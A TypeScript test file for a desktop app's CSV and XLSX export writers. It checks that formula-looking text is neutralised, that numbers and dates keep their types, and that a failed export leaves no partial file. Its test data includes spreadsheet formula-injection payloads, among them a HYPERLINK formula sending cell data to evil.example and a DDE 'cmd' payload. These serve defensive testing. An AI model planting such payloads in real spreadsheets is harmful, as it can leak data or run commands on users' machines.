// The generic table writer on its own, and the quarantine and audit-log tables:
// text stays text (neutralised in CSV, a string cell in XLSX), numbers stay
// numbers including negative ones, dates are dates, and a failed export leaves
// nothing behind.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dispatch } from '../../electron/backend/api';
import type { BackendContext } from '../../electron/backend/context';
import { exportToFile } from '../../electron/backend/exports/export-file';
import { columns, type ExportCell, type ExportTable } from '../../electron/backend/exports/table';
import { writeTable } from '../../electron/backend/exports/write-table';
import { XLSX_MAX_TEXT } from '../../electron/backend/exports/write-xlsx';
import { smallWorkbook, tempDir } from '../helpers/workbook';

const PAYLOADS = ['=HYPERLINK("http://evil.example?x="&A1,"click")', '+SUM(A1)', '-10+20', '@cmd', '\tindent', '\rreturn', '＝SUM(A1)'];

function table(rows: ExportCell[][], name = 'Test'): ExportTable {
  return {
    name,
    columns: columns([
      ['label', 'Label', 'text'],
      ['change', 'Change', 'number'],
      ['lag', 'Lag', 'integer'],
      ['period', 'Period', 'date'],
      ['at', 'At', 'datetime'],
    ]),
    rows,
    total: rows.length,
  };
}

async function sheetOf(path: string): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book.worksheets[0]!;
}

describe('writeTable', () => {
  const t = tempDir('fwb-export-writers-');
  afterAll(() => t.cleanup());
  const rows: ExportCell[][] = [
    ...PAYLOADS.map((p, i): ExportCell[] => [p, -(i + 0.5), -i, '2026-03-01', '2026-10-31T18:00:00.000Z']),
    ['-5', -5, 3, null, null], // a text that looks like a negative number is text; the number is a number
    ['comma, "quote"\nand a line break', 0, 0, '2027-01-01', null],
    [null, null, null, null, null],
  ];

  it('CSV: formula-looking text gets a leading quote, negative numbers stay plain numbers, RFC 4180 quoting', async () => {
    const out = join(t.dir, 't.csv');
    const done = await writeTable(table(rows), 'csv', out);
    expect(done).toMatchObject({ rows: rows.length, warnings: [] });
    const text = readFileSync(out, 'utf8');
    const records = text.split('\r\n');
    expect(records[0]).toBe('label,change,lag,period,at');
    expect(records[1]).toBe(`"'=HYPERLINK(""http://evil.example?x=""&A1,""click"")",-0.5,0,2026-03-01,2026-10-31T18:00:00.000Z`);
    expect(records[2]).toBe("'+SUM(A1),-1.5,-1,2026-03-01,2026-10-31T18:00:00.000Z");
    expect(records[3]).toBe("'-10+20,-2.5,-2,2026-03-01,2026-10-31T18:00:00.000Z");
    expect(records[7]).toMatch(/^'＝SUM\(A1\),-6\.5,-6,/);
    expect(records[8]).toBe("'-5,-5,3,,");
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data.slice(1);
    expect(parsed).toHaveLength(rows.length);
    PAYLOADS.forEach((p, i) => {
      expect(parsed[i]![0]).toBe(`'${p}`);
      expect(Number(parsed[i]![1])).toBe(-(i + 0.5));
    });
    expect(parsed[7]).toEqual(["'-5", '-5', '3', '', '']);
    expect(parsed[8]![0]).toBe('comma, "quote"\nand a line break');
    expect(parsed[9]).toEqual(['', '', '', '', '']);
  });

  it('XLSX: text is a string cell as it is, numbers (negative too) are numbers, dates are dates', async () => {
    const out = join(t.dir, 't.xlsx');
    await writeTable(table(rows), 'xlsx', out);
    const sheet = await sheetOf(out);
    PAYLOADS.forEach((p, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(1).value).toBe(p.replace('\r', '\n'));
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(2).value).toBe(-(i + 0.5));
      expect(row.getCell(4).value).toEqual(new Date(Date.UTC(2026, 2, 1)));
      expect(row.getCell(4).numFmt).toBe('yyyy-mm-dd');
      expect(row.getCell(5).value).toEqual(new Date('2026-10-31T18:00:00.000Z'));
    });
    expect(sheet.getRow(9).getCell(1).value).toBe('-5');
    expect(sheet.getRow(9).getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(9).getCell(2).value).toBe(-5);
    expect(sheet.getRow(11).getCell(1).type).toBe(ExcelJS.ValueType.Null);
    // The sheet carries no formula anywhere.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('cuts text over Excel’s cell limit in XLSX with a warning, and keeps it whole in CSV', async () => {
    const long = 'x'.repeat(XLSX_MAX_TEXT + 10);
    const x = await writeTable(table([[long, 1, 1, null, null]]), 'xlsx', join(t.dir, 'long.xlsx'));
    expect(x.warnings).toEqual([expect.stringMatching(/1 cell was longer than Excel's 32767 characters/)]);
    expect(((await sheetOf(x.path)).getRow(2).getCell(1).value as string).length).toBe(XLSX_MAX_TEXT);
    const c = await writeTable(table([[long, 1, 1, null, null]]), 'csv', join(t.dir, 'long.csv'));
    expect(c.warnings).toEqual([]);
    expect(readFileSync(c.path, 'utf8')).toContain(long);
  });

  it('streams rows from an async source, with progress', async () => {
    async function* many() {
      for (let i = 0; i < 12_345; i++) yield [`item ${i}`, i - 6000, i, '2026-01-01', null] as ExportCell[];
    }
    const progress: number[] = [];
    for (const format of ['csv', 'xlsx'] as const) {
      progress.length = 0;
      const done = await writeTable({ ...table([]), rows: many(), total: 12_345 }, format, join(t.dir, `many.${format}`), (p) => progress.push(p.rowsDone));
      expect(done.rows).toBe(12_345);
      expect(progress.at(-1)).toBe(12_345);
      expect(progress.length).toBeGreaterThan(2);
    }
    expect(readFileSync(join(t.dir, 'many.csv'), 'utf8').trim().split('\r\n')).toHaveLength(12_346);
    expect((await sheetOf(join(t.dir, 'many.xlsx'))).rowCount).toBe(12_346);
  });

  it('a failure part-way leaves the earlier file untouched and no partial file', async () => {
    const out = join(t.dir, 'keep.csv');
    writeFileSync(out, 'the previous export\n');
    function* failing() {
      for (let i = 0; i < 20_000; i++) {
        if (i === 15_000) throw new Error('disk went away');
        yield [`row ${i}`, i, i, null, null] as ExportCell[];
      }
    }
    for (const format of ['csv', 'xlsx'] as const) {
      const target = join(t.dir, `keep.${format}`);
      if (format === 'xlsx') writeFileSync(target, 'the previous export\n');
      await expect(writeTable({ ...table([]), rows: failing(), total: null }, format, target)).rejects.toThrow('disk went away');
      expect(readFileSync(target, 'utf8')).toBe('the previous export\n');
    }
    expect(readdirSync(t.dir).filter((f) => f.includes('.partial-'))).toEqual([]);
  });
});

describe('quarantine and audit-log exports', () => {
  const t = tempDir('fwb-export-tables-');
  let ctx: BackendContext;
  let batchId: number;
  beforeAll(async () => {
    ({ ctx } = await smallWorkbook(t.dir));
    batchId = Number(
      ctx.db.prepare("INSERT INTO import_batches (kind, file_name, rows_read, rows_accepted, rows_quarantined, imported_at) VALUES ('forecasts', 'bad.csv', 5, 2, 3, '2026-10-31T18:00:00.000Z')").run().lastInsertRowid,
    );
    const q = ctx.db.prepare('INSERT INTO quarantine_rows (batch_id, row_number, column_name, reason, raw_text) VALUES (?, ?, ?, ?, ?)');
    q.run(batchId, 3, 'yhat', 'not a number', '=cmd|"/c calc"!A1');
    q.run(batchId, 4, 'yhat', 'negative quantity', 'SKU-1;2026-07-01;-5');
    q.run(batchId, 5, null, 'too few columns', '@SUM(1)');
    // Some audited decisions, so the audit log has entries of its own.
    await dispatch(ctx, 'signIn', { userId: 'ana', displayName: 'Ana', role: 'planner' });
  });
  afterAll(() => {
    ctx.db.close();
    t.cleanup();
  });

  it('writes a batch’s quarantine rows with the raw text neutralised in CSV and kept as text in XLSX', async () => {
    const csv = await exportToFile(ctx.db, { what: 'quarantine', batchId }, 'csv', join(t.dir, 'q.csv'));
    expect(csv).toMatchObject({ rows: 3, title: `Quarantine of batch ${batchId} (bad.csv)` });
    const parsed = Papa.parse<Record<string, string>>(readFileSync(csv.path, 'utf8'), { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual(['batch_id', 'row_number', 'column', 'reason', 'raw_text']);
    expect(parsed.data.map((r) => [r.row_number, r.column, r.raw_text])).toEqual([
      ['3', 'yhat', `'=cmd|"/c calc"!A1`],
      ['4', 'yhat', 'SKU-1;2026-07-01;-5'],
      ['5', '', "'@SUM(1)"],
    ]);
    const xlsx = await exportToFile(ctx.db, { what: 'quarantine', batchId }, 'xlsx', join(t.dir, 'q.xlsx'));
    const sheet = await sheetOf(xlsx.path);
    expect(sheet.rowCount).toBe(4);
    expect(sheet.getRow(2).getCell(5).value).toBe('=cmd|"/c calc"!A1');
    expect(sheet.getRow(2).getCell(5).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.Number);
  });

  it('writes the whole audit log, oldest first, with real timestamps in XLSX', async () => {
    const entries = ctx.db.prepare('SELECT audit_id, at, hash FROM audit_log ORDER BY audit_id').all() as { audit_id: number; at: string; hash: string }[];
    expect(entries.length).toBeGreaterThan(0);
    const csv = await exportToFile(ctx.db, { what: 'audit' }, 'csv', join(t.dir, 'audit.csv'));
    const parsed = Papa.parse<Record<string, string>>(readFileSync(csv.path, 'utf8'), { header: true, skipEmptyLines: true }).data;
    expect(parsed.map((r) => [Number(r.audit_id), r.at, r.hash])).toEqual(entries.map((e) => [e.audit_id, e.at, e.hash]));
    const xlsx = await exportToFile(ctx.db, { what: 'audit' }, 'xlsx', join(t.dir, 'audit.xlsx'));
    const sheet = await sheetOf(xlsx.path);
    expect(sheet.rowCount).toBe(entries.length + 1);
    expect(sheet.getRow(2).getCell(2).value).toEqual(new Date(entries[0]!.at));
    expect(existsSync(join(t.dir, 'audit.xlsx'))).toBe(true);
  });
});
